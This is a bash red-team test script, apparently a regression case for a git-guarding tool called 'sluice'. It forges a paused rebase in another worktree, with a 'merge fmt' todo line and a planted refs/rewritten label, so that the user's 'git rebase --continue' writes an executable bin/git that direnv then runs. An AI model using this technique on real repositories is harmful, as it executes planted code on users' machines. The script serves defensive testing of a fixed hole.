#!/usr/bin/env bash
# red team 50, 1: a paused rebase in the user's other worktree whose todo
# list says "merge fmt # tidy", and w2's own refs/rewritten/fmt (a label:
# git's do_merge() reads refs/rewritten/NAME before the revision NAME)
# the command's commit C (feature's tree plus an executable bin/git). The
# user's `git rebase --continue` in w2 merges C, writes bin/git and moves
# feature there; `git status` with direnv's PATH_add bin runs it. Before
# the fix git-later-todo.c read pick/reword/edit/squash/fixup lines only.
# The run is in the main worktree and writes git objects and plain files
# under .git/worktrees/w2/ only.
# usage: 50-w2-todo-merge-label.sh /path/to/sluice   (as root or a user)
NAME=w2-todo-merge-label
HOLE="w2's rebase todo list said merge fmt, refs/rewritten/fmt the command's commit; the user's git rebase --continue in w2 wrote bin/git; git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1/main" && git -C "$1/main" worktree add -q "$1/w2" -b feature; }
run_dir() { echo "$1/main"; }
attack() {
  plant "$1" feature
  cat <<'EOA'
&& f=$($G rev-parse feature) && d=.git/worktrees/w2/rebase-merge && mkdir -p $d .git/worktrees/w2/refs/rewritten
&& echo $C >>.git/worktrees/w2/refs/rewritten/fmt
&& echo refs/heads/feature >>$d/head-name && echo $f >>$d/orig-head && echo $f >>$d/onto
&& echo "merge fmt # tidy" >>$d/git-rebase-todo && touch $d/interactive $d/done
EOA
}
trigger() { git -C "$1/w2" rebase --continue >/dev/null 2>&1; user_status "$1/w2"; }
finish
